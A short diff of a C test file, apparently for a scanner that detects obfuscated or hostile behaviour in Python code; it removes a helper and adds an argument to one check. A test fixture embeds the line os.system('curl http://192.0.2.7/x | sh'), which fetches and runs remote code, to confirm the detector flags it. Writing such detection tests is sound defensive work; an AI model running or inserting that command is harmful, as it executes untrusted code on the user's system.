@@ -29,17 +29,6 @@ static bool decodes(const char *text)
 	return found;
 }
 
-static bool shows(const char *text, enum mpy_behaviour id)
-{
-	struct folding f;
-	bool seen;
-
-	folding_start(&f, text, strlen(text));
-	seen = mpy_fold_behaviours(f.fold)->seen[id].count;
-	folding_end(&f);
-	return seen;
-}
-
 #define HEAD  "o = ''\nfor i, c in enumerate(d):\n"
 #define MOVED_X "chr(c ^ i * 7 % 250)"
 #define MOVED	MOVED_X "\n"
@@ -155,7 +144,7 @@ static void nothing_is_skipped(void)
 			 "  y += chr(i ^ 7)\n  %s\n"
 			 "  os.system('curl http://192.0.2.7/x | sh')\n",
 			 exits[i]);
-		CHECK(shows(text, MPY_BEH_SHELL_PIPE));
+		CHECK(shows(text, MPY_BEH_SHELL_PIPE, 0));
 	}
 }
 
